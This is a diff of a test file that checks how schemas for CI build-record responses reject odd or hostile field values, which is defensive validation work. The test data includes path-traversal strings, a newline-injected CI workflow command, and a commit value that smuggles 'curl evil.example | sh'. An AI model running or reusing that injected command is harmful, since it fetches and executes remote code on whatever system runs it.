@@ -1,4 +1,4 @@
-// Answers with one odd field: what a build's end does not hang on hides nothing else.
+// Tests answers with an odd or hostile field: fields that the build's result does not depend on hide nothing else.
 
 import * as v from 'valibot';
 import { expect, it } from 'vitest';
@@ -24,6 +24,34 @@ it.each(odd.flatMap((name) => [{}, [], { a: 1 }].map((value) => [name, value] as
     expect([read.buildNumber, read.status]).toEqual([7, 'SUCCESS']);
   },
 );
+
+it.each([
+  ['commit', 'commitId', '../actions/runs/77/approve'],
+  ['commit', 'commitId', 'main'],
+  ['commit', 'commitId', 'abc123'],
+  ['commit', 'commitId', `${'a'.repeat(40)}"; curl evil.example | sh; #`],
+  ['build_record_id', 'recordId', '../../v3/jobs'],
+  ['build_record_id', 'recordId', 'r'.repeat(5_000_000)],
+  ['daily_build_num', 'dailyBuildNumber', '20260112.1\n::warning::x'],
+  ['devcloud_project_id', 'projectId', 'p/../q'],
+] as const)('a record has no %s that is not of its form (%s): %.60j', (field, name, value) => {
+  const read = v.parse(answers.buildRecord, { result: { ...record, [field]: value } });
+  expect(read[name]).toBe('');
+});
+
+it.each(['a3daced', 'A3DACED', 'a'.repeat(40), 'f'.repeat(64)])('a record has the commit %s', (commit) => {
+  expect(v.parse(answers.buildRecord, { result: { ...record, commit } }).commitId).toBe(commit);
+});
+
+it('a status or a name of megabytes is cut, and a number or a time that no build can have is none', () => {
+  const read = v.parse(answers.buildRecord, {
+    result: { ...record, status: 'S'.repeat(5_000_000), finish_time: 1e300, duration: Number.MAX_VALUE },
+  });
+  expect(read.status).toHaveLength(200);
+  expect(read.finishedAt).toBeUndefined();
+  const { steps } = v.parse(answers.buildDetails, { build_steps: [{ name: 'n'.repeat(5_000_000) }] });
+  expect(steps[0]?.name).toHaveLength(200);
+});
 
 it('the parameters of a build are read though one has no value that is a text', () => {
   const { parameters } = v.parse(answers.buildDetails, {
